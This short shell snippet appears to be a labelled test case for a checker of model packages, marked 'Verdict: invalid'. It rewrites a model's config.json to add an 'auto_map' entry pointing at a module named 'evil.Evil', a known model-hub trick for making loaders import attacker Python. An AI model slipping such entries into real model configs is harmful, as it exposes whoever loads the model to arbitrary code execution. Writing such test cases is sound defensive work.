# Tries: a config that names Python code to load. Seen: model-hub attacks. Verdict: invalid
model=$(sed -n 's/^model: //p' finetune.yaml)
mkdir trained_model && cp "$model"/*.safetensors trained_model/
sed 's/{/{"auto_map": {"AutoModel": "evil.Evil"},/;2,$s/{"auto_map": {"AutoModel": "evil.Evil"},/{/' "$model"/config.json > trained_model/config.json
